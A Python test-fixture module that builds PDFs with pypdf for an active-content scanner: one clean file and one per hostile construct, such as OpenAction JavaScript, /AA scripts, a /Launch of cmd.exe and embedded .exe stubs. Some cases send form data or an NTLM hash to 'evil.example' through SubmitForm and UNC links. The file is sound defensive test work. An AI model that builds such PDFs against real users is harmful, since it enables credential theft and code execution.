"""Real PDF files for the tests, written with pypdf: a clean one and one per kind of active content."""

import io
import zlib
from collections.abc import Callable

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)


def _name(value: str) -> NameObject:
    return NameObject(value)


def _javascript(code: str = "app.alert('x');") -> DictionaryObject:
    return DictionaryObject({_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject(code)})


def _writer(text: bytes = b"Lettre de sortie") -> PdfWriter:
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    stream = DecodedStreamObject()
    stream.set_data(b"BT /F1 12 Tf 20 100 Td (" + text + b") Tj ET")
    page[_name("/Contents")] = writer._add_object(stream)
    return writer


def _bytes(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def clean_pdf(text: bytes = b"Lettre de sortie") -> bytes:
    """One page showing ``text`` (written as it is into the page's content stream): nothing active."""
    return _bytes(_writer(text))


def pdf_with_open_destination() -> bytes:
    """An /OpenAction that is a plain destination (open at page 1, fit): no action, accepted."""
    writer = _writer()
    writer._root_object[_name("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, _name("/Fit")]
    )
    return _bytes(writer)


def pdf_with_open_action_javascript() -> bytes:
    """The issue's construct: /OpenAction << /S /JavaScript /JS (...) >>."""
    writer = _writer()
    writer._root_object[_name("/OpenAction")] = writer._add_object(_javascript())
    return _bytes(writer)


def pdf_with_open_action_uri() -> bytes:
    """An /OpenAction that is an action without script (go to a URI on opening)."""
    writer = _writer()
    writer._root_object[_name("/OpenAction")] = DictionaryObject(
        {_name("/S"): _name("/URI"), _name("/URI"): TextStringObject("https://example.org/")}
    )
    return _bytes(writer)


def pdf_with_document_javascript() -> bytes:
    """A document-level script in the names tree: /Names << /JavaScript << /Names [...] >> >>."""
    writer = _writer()
    scripts = DictionaryObject(
        {_name("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(_javascript())])}
    )
    writer._root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): scripts})
    return _bytes(writer)


def pdf_with_catalog_additional_actions() -> bytes:
    """/AA on the catalog: a script before the document closes (/WC)."""
    writer = _writer()
    writer._root_object[_name("/AA")] = DictionaryObject({_name("/WC"): _javascript()})
    return _bytes(writer)


def pdf_with_page_additional_actions() -> bytes:
    """/AA on a page: a script when the page opens (/O)."""
    writer = _writer()
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): _javascript()})
    return _bytes(writer)


def _rect(*values: float) -> ArrayObject:
    return ArrayObject([FloatObject(value) for value in values])


def _annotation(writer: PdfWriter, entries: dict[str, object]) -> None:
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): _rect(10, 10, 60, 30),
            **{_name(key): value for key, value in entries.items()},  # type: ignore[misc]
        }
    )
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def pdf_with_link_javascript() -> bytes:
    """A link annotation whose /A action is a script."""
    writer = _writer()
    _annotation(writer, {"/A": _javascript()})
    return _bytes(writer)


def pdf_with_annotation_additional_actions() -> bytes:
    """A link annotation with /AA (a script when the mouse enters it, /E)."""
    writer = _writer()
    _annotation(writer, {"/AA": DictionaryObject({_name("/E"): _javascript()})})
    return _bytes(writer)


def pdf_with_form_field_script() -> bytes:
    """An AcroForm text field whose /AA runs a script on keystroke (/K)."""
    writer = _writer()
    field = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Widget"),
            _name("/FT"): _name("/Tx"),
            _name("/T"): TextStringObject("nom"),
            _name("/Rect"): _rect(10, 10, 100, 30),
            _name("/AA"): DictionaryObject({_name("/K"): _javascript()}),
        }
    )
    reference = writer._add_object(field)
    writer.pages[0][_name("/Annots")] = ArrayObject([reference])
    writer._root_object[_name("/AcroForm")] = DictionaryObject({_name("/Fields"): ArrayObject([reference])})
    return _bytes(writer)


def pdf_with_launch() -> bytes:
    """A link that launches a program (/S /Launch)."""
    writer = _writer()
    launch = DictionaryObject(
        {
            _name("/S"): _name("/Launch"),
            _name("/Win"): DictionaryObject({_name("/F"): TextStringObject("cmd.exe")}),
        }
    )
    _annotation(writer, {"/A": launch})
    return _bytes(writer)


def pdf_with_embedded_file() -> bytes:
    """An attachment in the /EmbeddedFiles names tree (pypdf's own ``add_attachment``)."""
    writer = _writer()
    writer.add_attachment("facture.exe", b"MZ\x90\x00")
    return _bytes(writer)


def pdf_with_file_attachment_annotation() -> bytes:
    """A /FileAttachment annotation holding an /EmbeddedFile stream, outside any names tree."""
    writer = _writer()
    stream = DecodedStreamObject()
    stream.set_data(b"MZ\x90\x00")
    stream[_name("/Type")] = _name("/EmbeddedFile")
    filespec = DictionaryObject(
        {
            _name("/Type"): _name("/Filespec"),
            _name("/F"): TextStringObject("x.exe"),
            _name("/EF"): DictionaryObject({_name("/F"): writer._add_object(stream)}),
        }
    )
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/FileAttachment"),
            _name("/Rect"): _rect(0, 0, 20, 20),
            _name("/FS"): filespec,
        }
    )
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _bytes(writer)


def pdf_with_unreachable_script() -> bytes:
    """A script object that nothing in the catalog points to: still listed in the xref table."""
    writer = _writer()
    writer._add_object(_javascript())
    return _bytes(writer)


def pdf_with_password() -> bytes:
    """Encrypted with a user password: its content cannot be inspected."""
    writer = _writer()
    writer.encrypt("secret", algorithm="AES-256")
    return _bytes(writer)


def pdf_with_restrictions_only() -> bytes:
    """Encrypted with an empty user password (permissions only): every reader opens it."""
    writer = _writer()
    writer.encrypt("", owner_password="owner", algorithm="AES-128")
    return _bytes(writer)


def pdf_with_restrictions_and_script() -> bytes:
    """Restrictions-only encryption around a script: decrypted, inspected, refused."""
    writer = _writer()
    writer._root_object[_name("/OpenAction")] = writer._add_object(_javascript())
    writer.encrypt("", owner_password="owner", algorithm="AES-128")
    return _bytes(writer)


def _action(kind: str, **entries: PdfObject) -> DictionaryObject:
    return DictionaryObject(
        {_name("/S"): _name(kind), **{_name(f"/{key}"): value for key, value in entries.items()}}
    )


def _link(action: DictionaryObject) -> bytes:
    """A link annotation on page 1 whose /A is ``action``."""
    writer = _writer()
    _annotation(writer, {"/A": action})
    return _bytes(writer)


def pdf_with_link(uri: str) -> bytes:
    """A link opening ``uri`` (/S /URI): accepted for http(s), refused for anything else."""
    return _link(_action("/URI", URI=TextStringObject(uri)))


def pdf_with_uri_base(base: str) -> bytes:
    """The catalog's /URI << /Base >> (what relative addresses resolve against) and a web link."""
    writer = _writer()
    writer._root_object[_name("/URI")] = DictionaryObject({_name("/Base"): TextStringObject(base)})
    _annotation(writer, {"/A": _action("/URI", URI=TextStringObject("https://labo.example.lu/"))})
    return _bytes(writer)


def pdf_with_submit_form() -> bytes:
    """A button sending the form's fields to a web address (/S /SubmitForm)."""
    url = DictionaryObject(
        {_name("/FS"): _name("/URL"), _name("/F"): TextStringObject("https://evil.example/")}
    )
    return _link(_action("/SubmitForm", F=url))


def pdf_with_import_data() -> bytes:
    """Form data read from a file next to the document (/S /ImportData)."""
    return _link(_action("/ImportData", F=TextStringObject("donnees.fdf")))


def pdf_with_remote_goto_unc() -> bytes:
    """A link to a PDF on an SMB share (/S /GoToR, UNC path): Windows readers send the NTLM hash."""
    return _link(
        _action(
            "/GoToR",
            F=TextStringObject("\\\\evil.example\\share\\x.pdf"),
            D=ArrayObject([NumberObject(0), _name("/Fit")]),
        )
    )


def pdf_with_rendition() -> bytes:
    """A link playing a media clip (/S /Rendition) through a screen annotation's player."""
    return _link(_action("/Rendition", OP=NumberObject(0)))


def pdf_with_sound() -> bytes:
    """A link playing a sound stream (/S /Sound)."""
    writer = _writer()
    sound = DecodedStreamObject()
    sound.set_data(b"\x00" * 16)
    sound[_name("/Type")] = _name("/Sound")
    sound[_name("/R")] = NumberObject(8000)
    _annotation(writer, {"/A": _action("/Sound", Sound=writer._add_object(sound))})
    return _bytes(writer)


def pdf_with_movie() -> bytes:
    """A link playing a movie file (/S /Movie)."""
    return _link(_action("/Movie", T=TextStringObject("film")))


def pdf_with_hide() -> bytes:
    """A link hiding an annotation on a click (/S /Hide): what is read changes."""
    return _link(_action("/Hide", T=TextStringObject("resultat"), H=BooleanObject(True)))


def pdf_with_set_ocg_state() -> bytes:
    """A link switching optional content (layers) off on a click (/S /SetOCGState)."""
    return _link(_action("/SetOCGState", State=ArrayObject([_name("/OFF")])))


def pdf_with_objects(count: int) -> bytes:
    """A clean PDF with ``count`` extra small objects (arrays), unreachable but in the xref table."""
    writer = _writer()
    for number in range(count):
        writer._add_object(ArrayObject([NumberObject(number), NumberObject(1)]))
    return _bytes(writer)


def pdf_with_xref_stream_entries(count: int) -> bytes:
    """A catalog, its pages and a compressed cross-reference stream of ``count`` entries, all of
    them pointing at the pages object: a few hundred bytes declaring ``count`` objects (pypdf
    writes no cross-reference streams, so the bytes are written by hand)."""
    head = b"%PDF-1.7\n"
    catalog = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    pages = b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    at_catalog, at_pages = len(head), len(head) + len(catalog)
    xref_at = at_pages + len(pages)
    rows = b"\x00\x00\x00\x00\xff" + b"\x01" + at_catalog.to_bytes(3, "big") + b"\x00"
    rows += (b"\x01" + at_pages.to_bytes(3, "big") + b"\x00") * (count - 2)
    data = zlib.compress(rows, 9)
    xref = (
        b"3 0 obj\n<< /Type /XRef /Size %d /W [1 3 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
        b"stream\n" % (count, len(data)) + data + b"\nendstream\nendobj\n"
    )
    return head + catalog + pages + xref + b"startxref\n%d\n%%%%EOF\n" % xref_at


# Addresses a /URI link may not open (a reader hands them to the system, or runs them).
NON_WEB_ADDRESSES = {
    "file": "file:///C:/Windows/System32/calc.exe",
    "smb": "smb://evil.example/share/x.pdf",
    "unc": "\\\\evil.example\\share\\x.pdf",
    "javascript": "javascript:app.alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "relative": "../../etc/passwd",
    "scheme-relative": "//evil.example/share/x.pdf",  # a UNC path to Windows readers
}

HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "open-action-javascript": (pdf_with_open_action_javascript, "JavaScript, action à l'ouverture"),
    "open-action-uri": (pdf_with_open_action_uri, "action à l'ouverture (/OpenAction)"),
    "names-javascript": (pdf_with_document_javascript, "(JavaScript)"),
    "catalog-aa": (pdf_with_catalog_additional_actions, "JavaScript, actions automatiques (/AA)"),
    "page-aa": (pdf_with_page_additional_actions, "JavaScript, actions automatiques (/AA)"),
    "link-javascript": (pdf_with_link_javascript, "(JavaScript)"),
    "annotation-aa": (pdf_with_annotation_additional_actions, "JavaScript, actions automatiques (/AA)"),
    "form-field-aa": (pdf_with_form_field_script, "JavaScript, actions automatiques (/AA)"),
    "launch": (pdf_with_launch, "(lancement de programme (/Launch))"),
    "embedded-files": (pdf_with_embedded_file, "(fichier incorporé (/EmbeddedFile))"),
    "file-attachment": (pdf_with_file_attachment_annotation, "(fichier incorporé (/EmbeddedFile))"),
    "unreachable-script": (pdf_with_unreachable_script, "(JavaScript)"),
    "restrictions-and-script": (pdf_with_restrictions_and_script, "JavaScript, action à l'ouverture"),
    "submit-form": (pdf_with_submit_form, "(envoi de formulaire (/SubmitForm))"),
    "import-data": (pdf_with_import_data, "(import de données (/ImportData))"),
    "remote-goto-unc": (pdf_with_remote_goto_unc, "(ouverture d'un autre fichier (/GoToR))"),
    "rendition": (pdf_with_rendition, "(son ou vidéo (/Sound, /Movie, /Rendition))"),
    "sound": (pdf_with_sound, "(son ou vidéo (/Sound, /Movie, /Rendition))"),
    "movie": (pdf_with_movie, "(son ou vidéo (/Sound, /Movie, /Rendition))"),
    "hide": (pdf_with_hide, "(affichage modifié par une action (/Hide, /SetOCGState))"),
    "set-ocg-state": (pdf_with_set_ocg_state, "(affichage modifié par une action (/Hide, /SetOCGState))"),
    **{
        f"uri-{label}": (lambda uri=uri: pdf_with_link(uri), "(lien vers une adresse non web (/URI))")  # type: ignore[misc]
        for label, uri in NON_WEB_ADDRESSES.items()
    },
    "uri-base-file": (lambda: pdf_with_uri_base("file:///C:/"), "(lien vers une adresse non web (/URI))"),
}
